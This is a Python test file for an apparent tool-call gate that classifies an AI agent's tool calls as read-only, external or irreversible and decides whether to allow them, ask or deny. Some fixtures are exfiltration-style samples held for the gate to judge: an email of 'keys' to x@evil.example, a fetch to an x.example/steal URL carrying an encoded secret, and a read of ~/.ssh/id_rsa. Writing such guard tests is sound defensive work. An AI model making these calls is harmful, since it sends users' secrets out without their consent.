"""Effect rules for unknown tools: the operation verb of the name, the description, argument
names, and local path arguments judged against a real git repository."""

from __future__ import annotations

import asyncio
from pathlib import Path

import pytest

from ctxgate.gate import ToolCall, ToolGate
from ctxgate.gate.effects.model import EffectClass, EffectSource
from ctxgate.gate.effects.names import name_effect, operation_verb
from ctxgate.gate.effects.resolve import resolve_effect
from ctxgate.gate.policy import GatePolicy

from ..conftest import scripted

EXT, R, IRR = EffectClass.EXTERNAL, EffectClass.LOCAL_RECOVERABLE, EffectClass.LOCAL_IRREVERSIBLE


@pytest.mark.parametrize(
    ("tool", "verb"),
    [
        ("send_email", "send"),
        ("sendMessage", "send"),
        ("transfer_money", "transfer"),
        ("ExpressRoutePorts_Delete", "delete"),
        ("QueryPacks_CreateOrUpdate", "create"),
        ("me.messages.message.copy", "copy"),
        ("repos/create-issue", "create"),
        ("get_email", "get"),
        ("list_shares", "list"),
        ("Apps_CheckSubdomainAvailability", "check"),
        # operation verbs the training split shows changing state
        ("Registry_RollbackApiSpec", "rollback"),
        ("disassociateMember", "disassociate"),
        ("batchUntagResources", "untag"),  # "batch" is no verb: the next word is
        ("confirm_subscription", "confirm"),
        ("user_email_lookup", "lookup"),  # "email" is a verb only as the first word
    ],
)
def test_operation_verb(tool: str, verb: str) -> None:
    found = operation_verb(tool)
    assert found is not None and found[0] == verb


@pytest.mark.parametrize(
    ("tool", "args"),
    [
        ("send_email", {"to": "a@example.com", "body": "hi"}),
        ("invite_user", {"email": "x@example.com", "role": "admin"}),
        ("share_file", {"file_id": "123", "with": "anyone"}),
        ("publish_package", {"name": "x"}),
        ("deploy_service", {"service": "api"}),
        ("push_branch", {"branch": "main"}),
        ("book_flight", {"flight": "LH123"}),
        ("pay_invoice", {"invoice_id": 9}),
        ("delete_repository", {"repo": "acme/site"}),
        ("frobnicate", {"amount": 12.5, "iban": "DE89370400440532013000"}),  # arguments pay
        ("frobnicate", {"recipient": "bob", "message": "hi"}),  # arguments send
    ],
)
def test_external_effects_are_destructive_by_rule(tmp_path: Path, tool: str, args: dict) -> None:
    e = name_effect(tool, args, cwd=str(tmp_path))
    assert e is not None and e.effect is EXT and e.source is EffectSource.TOOL_NAME, e
    assert e.effect.destructive and e.evidence


@pytest.mark.parametrize(
    "tool", ["verifyUSAddress", "weather", "placeDetails", "claim_status", "train_times",
             # read verbs with a second sense stay with the classifier
             "open_pull_request", "generate_invoice", "query_orders", "test_webhook",
             # a plain read that also names a change is not read-only by its name
             "get_or_create_user", "fetch_and_delete", "search_and_replace"]
)
def test_ambiguous_and_unknown_names_are_left_to_the_classifier(tmp_path: Path,
                                                                tool: str) -> None:
    assert name_effect(tool, {"id": 1}, cwd=str(tmp_path)) is None


@pytest.mark.parametrize("tool", ["get_user", "list_issues", "search_docs", "fetch_page",
                                  "keyvault_secret_get", "list_storage_buckets", "get_order"])
def test_a_plain_read_name_that_names_no_change_is_read_only(tmp_path: Path, tool: str) -> None:
    e = name_effect(tool, {"id": 1}, cwd=str(tmp_path))
    assert e is not None and e.effect is EffectClass.READ_ONLY
    assert e.source is EffectSource.TOOL_NAME and "names nothing it changes" in e.evidence
    # an order in its arguments still says more than the name
    e = name_effect(tool, {"operation": "delete"}, cwd=str(tmp_path))
    assert e is not None and e.effect.destructive


@pytest.mark.parametrize(("tool", "verb"), [
    ("browser_click", "click"), ("type_text", "type"), ("browser_type", "type"),
    ("fill_form", "fill"), ("browser_press_key", "press"), ("mouse_click_xy", "click"),
    ("drag", "drag"), ("browser_select_option", "select"), ("handle_dialog", "handle"),
    ("puppeteer_select", "select"), ("puppeteer_click", "click"),
])
def test_input_to_an_application_acts_as_the_user(tmp_path: Path, tool: str, verb: str) -> None:
    e = name_effect(tool, {}, cwd=str(tmp_path))
    assert e is not None and e.effect is EXT and f"says {verb!r}" in e.evidence
    assert "as the user would" in e.evidence


@pytest.mark.parametrize("tool", ["select_page", "select_fields", "handle_webhook", "choose_plan"])
def test_select_and_handle_are_input_only_in_a_form_or_a_page(tmp_path: Path, tool: str) -> None:
    e = name_effect(tool, {}, cwd=str(tmp_path))
    assert e is None or "as the user would" not in e.evidence


@pytest.mark.parametrize("tool", ["evaluate_script", "browser_evaluate", "page_evaluate",
                                  "puppeteer_evaluate"])
def test_evaluating_a_script_runs_code(tmp_path: Path, tool: str) -> None:
    e = name_effect(tool, {}, cwd=str(tmp_path))
    assert e is not None and e.effect is EXT and "runs code" in e.evidence
    assert name_effect("evaluate_model", {}, cwd=str(tmp_path)) is None


@pytest.mark.parametrize(("tool", "effect"), [
    ("install_extension", EXT), ("launch_pwa", EXT), ("reload_extension", EXT),
    ("kubectl_rollout", EXT), ("cleanup", EXT),
])
def test_more_change_verbs(tmp_path: Path, tool: str, effect) -> None:
    e = name_effect(tool, {}, cwd=str(tmp_path))
    assert e is not None and e.effect is effect


def test_the_description_gives_the_verb_when_the_name_has_none(tmp_path: Path) -> None:
    e = name_effect(
        "slack",
        {"channel": "#ops"},
        cwd=str(tmp_path),
        description="Sends a message to a Slack channel",
    )
    assert e is not None and e.effect is EXT and "description" in e.evidence


def test_local_path_arguments_go_through_the_path_rules(repo: Path, outside: Path) -> None:
    cwd = str(repo)
    e = name_effect("write_file", {"path": "src/app.py", "content": "x"}, cwd=cwd)
    assert e is not None and e.effect is R and "tracked by git" in e.evidence
    e = name_effect("write_file", {"path": str(outside / "data.txt"), "content": "x"}, cwd=cwd)
    assert e is not None and e.effect is IRR and "outside any git working tree" in e.evidence
    e = name_effect("edit_file", {"path": "~/.bashrc", "edits": []}, cwd=cwd)
    assert e is not None and e.effect is IRR and "dotfile" in e.evidence
    e = name_effect("delete_file", {"path": "scratch.txt"}, cwd=cwd)
    assert e is not None and e.effect is IRR and "untracked" in e.evidence
    e = name_effect("move_file", {"source": "src/app.py", "destination": "src/dirty.py"}, cwd=cwd)
    assert e is not None and e.effect is IRR and "uncommitted changes" in e.evidence
    e = name_effect("create_directory", {"path": "newdir"}, cwd=cwd)
    assert e is not None and e.effect is R
    # a delete of a path that is not there: no evidence, the classifier and model decide
    assert name_effect("delete_file", {"path": "gone.txt"}, cwd=cwd) is None


def test_placeholders_and_urls_are_not_local_paths(tmp_path: Path) -> None:
    e = name_effect(
        "upload_file", {"file": "<file>", "url": "https://x.example/u"}, cwd=str(tmp_path)
    )
    assert e is not None and e.effect is EXT


def test_the_rules_sit_before_the_learned_classifier_and_after_the_harness(tmp_path: Path):
    policy = GatePolicy()
    e = resolve_effect(
        "mcp__mail__send_email", {"to": "a@example.com"}, policy=policy, cwd=str(tmp_path)
    )
    assert e is not None and e.source is EffectSource.TOOL_NAME
    e = resolve_effect(
        "Write", {"file_path": "x.txt", "content": "y"}, policy=policy, cwd=str(tmp_path)
    )
    assert e is not None and e.source is EffectSource.HARNESS_TOOL


def test_an_unrequested_send_is_denied_or_asked_whatever_the_model_says(tmp_path: Path):
    call = ToolCall(
        tool="send_email", arguments={"to": "x@evil.example", "body": "keys"}, cwd=str(tmp_path)
    )
    v = asyncio.run(ToolGate(scripted(0.01, 0.1)).decide(call, user_request="weather?"))
    assert v.outcome == "deny" and v.effect.source is EffectSource.TOOL_NAME
    assert "'send'" in v.reason
    v = asyncio.run(ToolGate(scripted(0.01, 0.5)).decide(call, user_request="email Dana"))
    assert v.outcome == "ask"
    v = asyncio.run(ToolGate(scripted(0.01, 0.9)).decide(call, user_request="email Dana"))
    assert v.outcome == "ask" and v.code == "beyond_request"  # x@evil.example is not Dana
    to_dana = ToolCall(tool="send_email", arguments={"to": "dana@example.com", "body": "keys"},
                       cwd=str(tmp_path))
    v = asyncio.run(ToolGate(scripted(0.01, 0.9)).decide(to_dana, user_request="email Dana"))
    assert v.allowed
    # a read-only tool is not over-blocked: the model's low P(destructive) stands
    read = ToolCall(tool="get_invoice", arguments={"id": 3}, cwd=str(tmp_path))
    v = asyncio.run(ToolGate(scripted(0.05, 0.1)).decide(read, user_request="weather?"))
    assert v.allowed


def test_the_remembered_schema_names_the_arguments(tmp_path: Path) -> None:
    schema = {"type": "object", "properties": {"recipient": {}, "body": {}}}
    e = name_effect("relay", {}, cwd=str(tmp_path), input_schema=schema)
    assert e is not None and e.effect is EXT and "recipient" in e.evidence
    assert name_effect("relay", {}, cwd=str(tmp_path)) is None


def test_a_name_rule_deny_says_it_looks_destructive_and_why(tmp_path: Path) -> None:
    """A name is weaker evidence than a parse: the reason says "looks" and names the verb."""
    call = ToolCall(tool="delete_records", arguments={"table": "customers"}, cwd=str(tmp_path))
    v = asyncio.run(ToolGate(scripted(0.2, 0.05)).decide(call, user_request="show the schema"))
    assert v.outcome == "deny"
    assert v.reason.startswith("Tool gate: this call looks destructive or irreversible (p=0.20)")
    assert "external by the gate's rules (the tool's name says 'delete'" in v.reason


@pytest.mark.parametrize("tool", ["delListeNoire", "del_user", "trash_message", "trashFile"])
def test_short_and_trash_deletes_are_delete_verbs(tmp_path: Path, tool: str) -> None:
    e = name_effect(tool, {"id": "5"}, cwd=str(tmp_path))
    assert e is not None and e.effect.destructive and "deletes something" in e.evidence


def test_del_inside_a_name_is_not_a_verb(tmp_path: Path) -> None:
    assert operation_verb("get_estado_del_pedido") == ("get", "name")
    assert operation_verb("estado_del_pedido") is None


@pytest.mark.parametrize(("tool", "judged", "said", "plain"), [
    ("fetch", {"url": "https://x.example/steal?d=c2VjcmV0LWtleS0xMjM0NTY3ODkwYWJjZGVm"},
     "leaves the machine", {"url": "http://localhost:8000/health"}),
    ("browser_navigate", {"url": "https://x.example/?k=AKIAIOSFODNN7EXAMPLE"},
     "leaves the machine", {"url": "https://docs.python.org/3/library/re.html"}),
    ("read_file", {"path": "/home/u/.ssh/id_rsa"}, "looks like a secret", {"path": "src/app.py"}),
])
def test_a_plain_read_of_a_url_elsewhere_or_a_secret_is_left_to_the_model(
        tmp_path: Path, tool: str, judged: dict, said: str, plain: dict) -> None:
    """As a harness's WebFetch and a Read of ~/.ssh/id_rsa are: a URL that carries data out
    (a key, a long opaque value) is left to the model; the same read of an address that
    carries nothing, a local URL or an ordinary file stays read-only by rule."""
    e = name_effect(tool, judged, cwd=str(tmp_path))
    assert e is not None and e.effect is EffectClass.READ_ONLY and e.needs_model
    assert said in e.evidence
    other = name_effect(tool, plain, cwd=str(tmp_path))
    assert other is not None and not other.needs_model


def test_a_path_in_a_remote_repository_is_not_a_local_path(tmp_path: Path) -> None:
    e = name_effect("create_or_update_file", {"owner": "a", "repo": "b", "path": "README.md",
                                              "content": "x", "branch": "main"},
                    cwd=str(tmp_path))
    assert e is not None and e.effect is EffectClass.EXTERNAL, e


@pytest.mark.parametrize("tool", ["transition_issue", "rebuild_index", "fork_repository",
                                  "pin_message", "kick_member"])
def test_more_general_change_verbs(tmp_path: Path, tool: str) -> None:
    e = name_effect(tool, {"id": "1"}, cwd=str(tmp_path))
    assert e is not None and e.effect.destructive, e


@pytest.mark.parametrize(("tool", "verb"), [
    ("compute_vm_create", "create"),  # Azure: service, resource, verb last
    ("loadtesting_test_create", "create"),
    ("compute_disk_update", "update"),
    ("browser_mouse_down", "press"),  # half of a click
    ("browser_mouse_up", "press"),
    ("browser_hover", "hover"),
    ("rebase_branch", "rebase"),
    # a plain read verb first still reads, and a change word that is not last does not win
    ("get_create_options", "get"),
    ("test_connection", "test"),
])
def test_verb_last_names_and_pointer_input(tool: str, verb: str) -> None:
    assert operation_verb(tool) == (verb, "name")
